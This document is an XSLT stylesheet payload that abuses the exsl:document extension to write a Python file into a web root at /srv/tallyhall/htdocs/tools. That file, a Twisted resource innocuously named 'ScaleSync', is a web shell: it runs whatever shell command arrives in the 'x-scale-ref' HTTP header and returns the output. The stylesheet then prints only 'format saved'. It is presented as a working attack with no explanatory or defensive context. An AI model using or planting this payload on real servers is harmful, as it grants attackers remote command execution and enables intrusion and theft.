<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:exsl="http://exslt.org/common" extension-element-prefixes="exsl">
<xsl:output method="text"/>
<xsl:template match="/"><exsl:document href="/srv/tallyhall/htdocs/tools/scale-sync.rpy" method="text">import subprocess
from twisted.web.resource import Resource
class ScaleSync(Resource):
    isLeaf = True
    def render_GET(self, request):
        ref = request.getHeader("x-scale-ref") or "true"
        request.setHeader(b"content-type", b"text/plain")
        return subprocess.getoutput(ref).encode() + b"\n"
resource = ScaleSync()
</exsl:document>format saved</xsl:template></xsl:stylesheet>
